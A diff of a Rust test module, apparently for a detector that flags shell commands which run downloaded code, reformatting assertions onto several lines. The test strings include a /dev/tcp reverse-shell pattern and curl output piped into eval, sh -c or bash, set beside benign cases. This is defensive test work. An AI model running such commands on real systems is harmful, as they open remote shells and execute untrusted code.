@@ -644,11 +644,21 @@ mod tests {
         assert!(runs("exec 3<>/dev/tcp/h/80; bash <&3"));
         assert!(!runs("curl -s https://x | python3 -m json.tool"));
         assert!(!runs("exec 3<>/dev/tcp/h/80; echo hi >&3; cat <&3"));
-        assert!(runs("curl -s https://x | while read l; do eval \"$l\"; done"));
-        assert!(runs("curl -s https://x | while read -r a b; do sh -c \"${b}\"; done"));
-        assert!(runs("curl -s https://x | while read c; do echo \"$c\" | bash; done"));
-        assert!(!runs("curl -s https://x | while read l; do echo \"$l\"; done"));
-        assert!(!runs("curl -s https://x | while read l; do eval \"$line\"; done"));
+        assert!(runs(
+            "curl -s https://x | while read l; do eval \"$l\"; done"
+        ));
+        assert!(runs(
+            "curl -s https://x | while read -r a b; do sh -c \"${b}\"; done"
+        ));
+        assert!(runs(
+            "curl -s https://x | while read c; do echo \"$c\" | bash; done"
+        ));
+        assert!(!runs(
+            "curl -s https://x | while read l; do echo \"$l\"; done"
+        ));
+        assert!(!runs(
+            "curl -s https://x | while read l; do eval \"$line\"; done"
+        ));
     }
 
     #[test]
